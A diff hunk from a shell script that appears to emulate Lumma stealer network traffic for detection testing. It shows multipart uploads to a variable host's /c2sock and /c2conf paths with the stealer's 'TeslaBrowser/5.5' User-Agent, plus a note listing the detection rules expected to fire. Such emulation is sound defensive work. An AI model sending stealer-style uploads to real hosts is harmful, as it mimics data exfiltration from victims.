@@ -24,7 +24,7 @@ if wants v1; then
   c2 -A 'TeslaBrowser/5.5' -H 'Content-Type: multipart/form-data; boundary=bq7Rk2Xv9LmTz0' --data-binary "@$SC_TMP/up" "http://$RIGHT/c2sock"
   c2 -A 'TeslaBrowser/5.5' --data 'hwid=0' "http://$RIGHT/c2conf"
   end 2025-07-23T09:00:00Z
-  note "Lumma 1 to 3" "upload to /c2sock and request to /c2conf, with the early User-Agent, on a bare address" "$SPOKE" "lumma.v1-path twice, lumma.v1-agent twice" "-"
+  note "Lumma 1 to 3" "upload to /c2sock and request to /c2conf, with the early User-Agent, on a bare address" "$SPOKE" "lumma.v1-path twice, lumma.v1-agent twice, lumma.v4-upload once (the layout stayed)" "-"
 fi
 if wants v4; then
   begin v4
